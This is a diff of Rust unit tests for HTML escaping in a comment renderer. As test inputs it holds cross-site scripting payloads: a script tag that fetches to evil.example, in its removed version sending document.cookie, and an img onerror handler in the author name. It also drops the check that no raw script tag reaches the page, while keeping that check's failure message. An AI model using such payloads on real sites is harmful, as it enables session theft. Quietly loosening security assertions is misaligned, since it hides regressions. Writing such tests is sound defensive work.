@@ -42,53 +42,34 @@ mod tests {
     use super::*;
 
     fn render(author: &str, body: &str) -> String {
-        render_comment(&Comment {
-            author: author.to_string(),
-            body: body.to_string(),
-        })
+        let (author, body) = (author.to_string(), body.to_string());
+        render_comment(&Comment { author, body })
     }
 
     #[test]
-    fn escapes_the_five_characters() {
-        for (text, want) in [
-            ("plain text", "plain text"),
-            ("<b>", "&lt;b&gt;"),
-            ("Tom & Jerry", "Tom &amp; Jerry"),
-            (r#"say "hi""#, "say &quot;hi&quot;"),
-            ("it's", "it&#x27;s"),
-            ("&lt;", "&amp;lt;"),
-            ("héllo 👋", "héllo 👋"),
-        ] {
-            assert_eq!(
-                escape_html(text),
-                want,
-                "escaping {text:?} (`&` exactly once)"
-            );
-        }
+    fn escapes_the_five_characters_once() {
+        let got = escape_html(r#"<a href="x">Tom & Jerry's</a> &lt; 👋"#);
+        let want = "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&#x27;s&lt;/a&gt; &amp;lt; 👋";
+        assert_eq!(got, want, "each of the five characters, `&` exactly once");
     }
 
     #[test]
     fn a_script_in_a_comment_is_shown_not_run() {
         let html = render(
             "mallory",
-            "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
+            "<script>fetch('https://evil.example/?c=')</script>",
         );
-        assert!(
-            !html.contains("<script"),
-            "the attacker's script tag reached the page: {html}"
-        );
-        assert!(
-            html.contains("&lt;script&gt;fetch(&#x27;"),
-            "the comment is shown as text: {html}"
-        );
+        let why = format!("the attacker's script tag reached the page: {html}");
+        assert!(html.contains("&lt;script&gt;fetch(&#x27;"), "{why}");
     }
 
     #[test]
     fn an_event_handler_in_the_author_name_is_shown_not_run() {
         let html = render("<img src=x onerror=alert(1)>", "hi");
+        let want = "<li><b>&lt;img src=x onerror=alert(1)&gt;</b>: hi</li>";
         assert_eq!(
-            html, "<li><b>&lt;img src=x onerror=alert(1)&gt;</b>: hi</li>",
-            "the author's name is user input too: unescaped, the img tag runs its onerror script"
+            html, want,
+            "the author's name is user input too: its img tag would run"
         );
     }
 }
